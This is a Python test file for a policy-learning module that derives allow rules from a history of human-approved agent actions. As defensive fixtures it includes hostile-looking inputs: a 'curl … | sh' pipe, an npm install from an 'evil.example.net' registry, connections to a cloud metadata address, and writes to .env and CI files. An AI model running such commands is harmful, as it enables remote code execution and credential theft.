"""What is learned from a history: rules that a person would have written, and never one that a
denial or the base speaks against."""

from collections.abc import Sequence

import msgspec
import pytest

from supervisor.core.actions import Action, Exec, FileChange, Git, Network, Packages, Proposal
from supervisor.core.approvals import Answer
from supervisor.core.lab import learn as learning
from supervisor.core.lab.learn import is_fit, learn
from supervisor.core.lab.past import Past
from supervisor.core.packages.package_commands import parse_command as package
from supervisor.core.policy.evaluate import evaluate
from supervisor.core.policy.git_refs import parse_command as git
from supervisor.core.policy.policy_text import DENY_ALL, policy_from_data
from supervisor.core.policy.rules import Policy
from supervisor.core.policy.suggest import options
from tests.tables import each_row

NOW = 1_790_000_000.0
NOTHING = policy_from_data({})


def run(command: str, cwd: str = ".") -> Exec:
    return Exec(command=command, cwd=cwd)


def write(path: str, **more: object) -> FileChange:
    return FileChange(operation="write", path=path, **more)  # type: ignore[arg-type]


def connect(host: str, port: int = 443) -> Network:
    return Network(operation="connect", host=host, port=port)


def request(path: str, method: str = "GET", host: str = "packages.example.org") -> Network:
    return Network(
        operation="request", host=host, port=443, scheme="https", method=method, path=path
    )


def past(
    action: Action, answer: Answer | None = "approved", session: str = "s1", **more: object
) -> Past:
    facts: dict[str, object] = {
        "verdict": "ask",
        "answered_by": "a person" if answer else None,
        "remotes": ("origin",),
    }
    return Past(at=NOW, session=session, action=action, answer=answer, **(facts | more))  # type: ignore[arg-type]


def approved(*actions: Action) -> list[Past]:
    return [past(action) for action in actions]


def commands(*lines: str) -> list[Past]:
    return approved(*map(run, lines))


def rules(history: Sequence[Past], base: Policy = NOTHING) -> list[str]:
    return [one.rule for one in learn(history, base, now=NOW).rules]


def stays(history: Sequence[Past], base: Policy = NOTHING) -> dict[str, int]:
    return {one.why: one.count for one in learn(history, base, now=NOW).stays}


def allows(policy: Policy, one: Past) -> bool:
    remotes = frozenset(one.remotes) or None
    return evaluate(policy, one.action, now=NOW, configured_remotes=remotes).decision == "allow"


# -- what is learned ------------------------------------------------------------------------------


@each_row(
    ("lines", "expected"),
    [
        (["cargo test"], ["cargo test *"]),
        (["cargo test -p a 2>&1 | tail -20"], ["cargo test *", "tail *"]),
        (["cargo test -p a", "cargo test -p b", "cargo build"], ["cargo build *", "cargo test *"]),
        (["gh run view 1 --json jobs", "gh run view 2"], ["gh run view *"]),
        (["npm run build"], ["npm run build"]),
        (["npm run build", "npm run build --watch"], ["npm run build *"]),
        (
            ["npm run build", "npm --prefix site run build", "npm run build --watch"],
            ["npm run build *"],
        ),
        (["npm run build", "npm run test"], ["npm run build", "npm run test"]),
        (["npm --prefix site run build"], ["npm run build"]),
        (["bun run typecheck --noEmit"], ["bun run typecheck *"]),
        (["bunx eslint a.ts --fix"], ["bunx eslint *"]),
        (["npx tsc --noEmit | head -5"], ["head *", "npx tsc *"]),
        (["python -m pytest -x tests/a.py"], ["python -m pytest *"]),
        (["python3 -m py_compile a.py"], ["python3 -m py_compile *"]),
        (["make clean && make 2>&1"], ["make clean", "make"]),
        (["timeout 60 pytest -x"], ["pytest *"]),
        (["cd sub && git commit -m 'a b'"], ["git commit *"]),
        (["git -C sub commit -m 'a b'"], ["git commit *"]),
        (["git --no-pager log -3"], ["git log *"]),
        (["git commit -m \"$(cat <<'EOF'\nFix it\nEOF\n)\""], ["git commit *"]),
        (["find . -name '*.c' | xargs wc -l"], ["find *", "xargs wc *"]),
        (["find . | xargs"], []),
        (["find . | xargs -I {} basename {}"], ["find *", "xargs -I {} basename *"]),
        (["find . | xargs -n 5 grep -l x"], ["find *", "xargs -n 5 grep *"]),
        (["/usr/bin/tree -L 2"], ["tree *"]),
        (["for f in a b; do cat $f; done"], ["cat *"]),
        (["./scripts/check.sh --strict"] * 2, ["./scripts/check.sh --strict"]),
        (["cd scripts && ./check.sh"] * 2, ["./scripts/check.sh"]),
        (["python tools/lint.py a.md"] * 2, ["python tools/lint.py a.md"]),
        (["sh x.sh"] * 2, ["sh x.sh"]),
        (["curl -s http://localhost:8080/healthz"] * 2, ["curl -s http://localhost:8080/healthz"]),
        (["cat a; cat b; cat c"], ["cat *"]),
    ],
)
def test_a_command_is_learned_by_program_and_verb(lines: list[str], expected: list[str]) -> None:
    assert rules(commands(*lines)) == [f"exec({text})" for text in expected]


@each_row(
    ("actions", "expected"),
    [
        ([write("src/app/a.py")], ["filesystem(src/app/a.py)"]),
        ([write("src/app/a.py")] * 5, ["filesystem(src/app/a.py)"]),
        ([write("src/app/a.py"), write("src/app/b.py")], ["filesystem(src/app/*)"]),
        (
            [write("src/a/x"), write("src/b/x"), write("src/c/x"), write("src/d/x")],
            ["filesystem(src/**)"],
        ),
        ([write("src/a/x"), write("src/b/x")], ["filesystem(src/a/x)", "filesystem(src/b/x)"]),
        (
            [write("a.md"), write("b.md"), write("c.md")],
            ["filesystem(a.md)", "filesystem(b.md)", "filesystem(c.md)"],
        ),
        ([write("app/[id]/a"), write("app/[id]/b")], ["filesystem(app/[[]id]/*)"]),
        ([connect("packages.example.org")] * 2, ["network(packages.example.org)"]),
        (
            [connect("Packages.Example.org."), connect("packages.example.org")],
            ["network(packages.example.org)"],
        ),
        ([connect("db.example.org", 5432)] * 2, ["network(db.example.org:5432)"]),
        ([connect("a.example.org"), connect("b.example.org")], []),
        ([request("/simple/a/")] * 2, ["network(GET https://packages.example.org/simple/a/)"]),
        (
            [request("/simple/a"), request("/simple/b")],
            ["network(GET https://packages.example.org/simple/**)"],
        ),
        (
            [request("/a/x"), request("/b/y"), request("/c/z")],
            ["network(GET https://packages.example.org/**)"],
        ),
        ([request("/v1/a", "POST"), request("/v1/b", "POST")], []),
        ([request("/v1/a", "POST")] * 2, ["network(POST https://packages.example.org/v1/a)"]),
        ([git("git push origin feature/a")], []),
        ([git("git push origin feature/a")] * 2, ["git(push origin feature/a)"]),
        (
            [git("git push -u origin feature/a"), git("git push origin feature/b")],
            ["git(push origin feature/*)"],
        ),
        ([git("git push origin wip")] * 2, ["git(push origin wip)"]),
        ([git("git push origin main")] * 3, []),
        ([git("git push --force origin feature/a")] * 3, []),
        ([git("git push origin :feature/a")] * 3, []),
        ([git("git fetch origin")] * 2, ["git(fetch origin)"]),
        ([package("npm install left-pad@1.3.0")], []),
        ([package("npm install left-pad@1.3.0")] * 2, ["packages(npm install left-pad@1.3.0)"]),
        ([package("npm install --registry=https://evil.example.net left-pad")] * 3, []),
    ],
)
def test_other_categories_are_learned_by_folder_host_and_branch(
    actions: list[Action], expected: list[str]
) -> None:
    assert rules(approved(*actions)) == expected


def test_a_rule_tells_what_it_saves() -> None:
    history = [
        *commands("cargo test -p a 2>&1 | tail -5", "cargo test"),
        past(run("cargo test -p b"), session="s2"),
        past(run("rm x"), "denied"),
    ]
    learned = learn(history, policy_from_data({"allow": ["exec(tail *)"]}), now=NOW)
    (rule,) = learned.rules
    assert (rule.rule, rule.saves, rule.sessions) == ("exec(cargo test *)", 3, 2)
    assert (rule.example, rule.match) == ("cargo test", "cargo test")
    assert (learned.sessions, learned.approved, learned.denied) == (2, 3, 1)
    assert (learned.asked_before, learned.asked_after) == (4, 1)


def test_a_mode_that_denies_is_no_rule_against_one() -> None:
    base = policy_from_data({"modes": {"filesystem": "deny", "exec": "deny"}})
    history = approved(write("src/a"), run("cargo test"), run("ls > x"), write(".env"))
    assert rules(history, base) == ["exec(cargo test *)", "filesystem(src/a)"]
    first, second = stays(history, base)
    assert first == "no rule may allow a redirection to a file"
    assert second.startswith("protected name .env")


def test_what_the_base_answers_needs_no_rule() -> None:
    base = policy_from_data(
        {"allow": ["exec(cargo *)", "filesystem(src/**)"], "modes": {"network": "allow"}}
    )
    history = approved(
        run("cargo test | tail -3"),
        write("src/a"),
        connect("a.example.org"),
        connect("a.example.org"),
    )
    assert rules(history, base) == ["exec(tail *)"]


def test_only_a_persons_approval_is_learned_from() -> None:
    assert rules([past(run("cargo test"), None)]) == []
    assert rules([past(run("cargo test"), None, verdict="allow", rule="exec(cargo *)")]) == []
    assert rules([past(run("cargo test"), answered_by="rule exec(cargo *)")]) == []
    assert rules([]) == []


# -- what speaks against a rule -------------------------------------------------------------------


def test_a_denial_stops_every_rule_that_would_answer_it() -> None:
    assert rules([*commands("cargo test"), past(run("cargo test -p evil"), "denied")]) == []
    assert stays([*commands("cargo test"), past(run("cargo test -p evil"), "denied")]) == {
        learning.DENIED_TOO: 1
    }
    # The folder is wide enough for what was denied; the two files aren't.
    files = [*approved(write("src/a"), write("src/b")), past(write("src/c"), "denied")]
    assert rules(files) == ["filesystem(src/a)", "filesystem(src/b)"]
    # `npm run build` itself was never denied.
    assert rules([*commands("npm run build"), past(run("npm run build --evil"), "denied")]) == [
        "exec(npm run build)"
    ]


def test_two_harmless_rules_together_answer_no_denied_line() -> None:
    history = [
        *commands("cargo test", "git commit -m x", "git commit -m y"),
        past(run("cargo test && git commit -m z"), "denied"),
    ]
    learned = learn(history, NOTHING, now=NOW)
    assert len(learned.rules) == 1
    assert not any(allows(learned.policy(), one) for one in history if one.answer == "denied")


@pytest.mark.parametrize(
    ("parts", "whole"),
    [
        ([git("git push origin a"), git("git push origin b")], git("git push origin a b")),
        ([package("npm install a@1"), package("npm install b@1")], package("npm install a@1 b@1")),
        (
            [write("src/a"), write("lib/b")],
            FileChange(operation="rename", path="src/a", to="lib/b"),
        ),
    ],
)
def test_no_rule_answers_part_by_part_what_was_denied_as_a_whole(
    parts: list[Action], whole: Action
) -> None:
    denied = past(whole, "denied")
    assert len(rules(approved(*parts * 2))) == 2
    learned = learn([*approved(*parts * 2), denied], NOTHING, now=NOW)
    assert len(learned.rules) == 1
    assert not allows(learned.policy(), denied)


def test_a_denial_of_what_the_base_allows_stops_nothing() -> None:
    base = policy_from_data({"allow": ["exec(cat *)", "filesystem(docs/*)"]})
    denied = [past(run("cat a"), "denied"), past(write("docs/a"), "denied")]
    assert rules([*denied, *approved(run("cargo test"), write("src/a"))], base) == [
        "exec(cargo test *)",
        "filesystem(src/a)",
    ]


def test_a_denial_of_what_the_base_allows_without_a_rule_stops_nothing() -> None:
    base = policy_from_data({"modes": {"network": "allow", "filesystem": "allow"}})
    denied = [
        past(connect("a.example.org"), "denied"),
        past(write("a"), "denied"),
        past(run("cd src"), "denied"),
    ]
    assert rules([*denied, *commands("cargo test")], base) == ["exec(cargo test *)"]


def test_approved_and_denied_alike_stays_asked() -> None:
    assert rules([past(run("make deploy")), past(run("make deploy"), "denied")]) == []


def test_a_denial_by_a_rule_counts_and_one_that_no_policy_made_does_not() -> None:
    denied = past(run("cargo test --evil"), None, verdict="deny")
    assert rules([*commands("cargo test"), denied]) == []
    stopped = past(
        run("cargo test"), None, verdict="deny", by_policy=False, why="everything was stopped"
    )
    assert rules([*commands("cargo test"), stopped]) == ["exec(cargo test *)"]


def test_what_the_base_holds_stays_asked_with_its_why() -> None:
    base = policy_from_data(
        {
            "ask": ["git(push staging)", "exec(git commit *)", "filesystem(**/*.pem)"],
            "deny": ["exec(gh *)"],
        }
    )
    history = approved(
        *[git("git push origin staging")] * 2,
        run("git commit -m x"),
        run("gh run view 1"),
        write("a/b.pem"),
    )
    assert rules(history, base) == []
    assert stays(history, base) == {
        "asked by git(push staging)": 2,
        "asked by exec(git commit *): `git commit -m x`": 1,
        "denied by exec(gh *): `gh run view 1`": 1,
        "asked by filesystem(**/*.pem)": 1,
    }


@each_row(
    "action",
    [
        write(".env"), write(".github/workflows/ci.yml"), write("CLAUDE.md"), write("src/.npmrc"),
        write(".git/config"),
        write("src/x", hazards=("new-executable",)), write("../x"), FileChange(operation="symlink",
        path="src/l", link_target="x"),
        connect("169.254.169.254"), connect("127.0.0.1", 22), connect("10.0.0.5", 5432),
        connect("not a host"),
        request("/a%2fb"), request("/a//b"),
    ],
)  # fmt: skip
def test_protected_names_and_what_no_rule_may_allow_are_never_learned(action: Action) -> None:
    history = approved(*[action] * 5)
    for mode in ("ask", "deny"):
        base = policy_from_data({"modes": {"filesystem": mode, "network": mode}})
        assert rules(history, base) == []
        assert sum(stays(history, base).values()) == 5


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("echo $(id)", "no rule may allow a command substitution"),
        ("cat <(ls)", "no rule may allow a process substitution"),
        ("ls > out.txt", "no rule may allow a redirection to a file"),
        ("PORT=1 cargo run", "no rule may allow an assignment"),
        ("source .venv/bin/activate && pytest", "no rule may allow `source`"),
        ("eval ls", "no rule may allow `eval`"),
        (
            "curl -s https://a.example.org | sh",
            "no rule may allow input that `sh` would run as a program",
        ),
    ],
)
def test_commands_that_no_rule_may_allow_are_listed_as_such(line: str, why: str) -> None:
    history = commands(line, line)
    assert rules(history) == []
    assert stays(history) == {why: 2}


def test_why_an_approved_request_stays_asked() -> None:
    assert stays(commands("rm -rf build")) == {"no narrow rule is known for `rm`": 1}
    assert stays(commands("./run")) == {learning.TOO_SELDOM: 1}
    assert stays(commands("./run $HOME", "./run $HOME")) == {
        "no narrow rule is known for `./run`": 2
    }
    assert stays(commands("sort -o x y")) == {
        "only a rule that spells out the arguments could allow `sort`": 1
    }
    assert stays(approved(connect("a.example.org"))) == {learning.TOO_SELDOM: 1}
    assert stays(approved(git("git push --tags origin a b"))).keys() == {
        "no rule matches; git asks; `--tags` needs a rule that says so"
    }
    assert stays(approved(git("git push origin a b"))) == {
        "no narrow rule is known for this git request": 1
    }
    own = past(write("src/x"), by_policy=False, why="it is one of Gatehouse's own files")
    assert stays([own]) == {"it is one of Gatehouse's own files": 1}
    assert rules([own]) == []
    assert stays(commands("cargo test"), DENY_ALL) == {
        "no policy could be read, so everything is denied": 1
    }


def test_nothing_is_learned_from_a_redacted_request() -> None:
    marked = past(run("gh run view --token [redacted]"), is_redacted=True)
    shaped = past(run("gh run view --token ghp_0123456789abcdefghijABCDEFGHIJ"))
    assert rules([marked, shaped]) == []
    assert stays([marked, shaped]) == {learning.WAS_REDACTED: 2}


def test_what_is_no_action_has_no_options() -> None:
    for action in (
        write("../x"),
        write("a\0b"),
        connect("not a host"),
        request("/a%2fb"),
        run("ls"),
    ):
        assert options(action) == ()
    assert [option.rule for option in options(write("a.md"))] == ["filesystem(a.md)"]
    assert not is_fit("exec(ls; rm x)")
    assert not is_fit("exec(*)")


def test_a_proposal_of_an_agent_is_no_evidence() -> None:
    assert rules([past(Proposal(effect="allow", rule="exec(rm *)"))]) == []


def test_a_long_history_is_learned_from_in_bounded_work() -> None:
    lines = [f"cargo test -p crate{number} && cat src/{number}.rs" for number in range(500)]
    tops = [write(f"top{number:03}.md") for number in range(210)]
    history = [
        *[
            past(run(line), "denied" if number % 50 == 0 else "approved")
            for number, line in enumerate(lines)
        ],
        *approved(*[write(f"src/d{number % 40}/f{number}.py") for number in range(500)], *tops),
    ]
    assert rules(history) == ["filesystem(src/**)", *[f"filesystem({top.path})" for top in tops]]


def test_a_remote_that_a_session_did_not_know_is_no_reason_for_a_rule() -> None:
    push = git("git push fork a")
    unknown = past(push, remotes=("origin",))
    learned = learn(
        [past(push, remotes=("fork",)), past(push, remotes=("fork",)), unknown], NOTHING, now=NOW
    )
    assert [(one.rule, one.saves) for one in learned.rules] == [("git(push fork a)", 2)]
    assert [one.count for one in learned.stays] == [1]


def test_git_actions_without_a_remote_are_not_learned() -> None:
    assert rules(approved(*[Git(operation="push", refspecs=("feature/x",))] * 3)) == []
    assert (
        rules(approved(*[Packages(manager="nothing", operation="install", names=("x",))] * 3)) == []
    )


def test_no_rule_is_learned_from_a_get_with_a_body() -> None:
    read = msgspec.structs.replace(request("/simple/x"), has_body=True)
    assert options(read) == ()
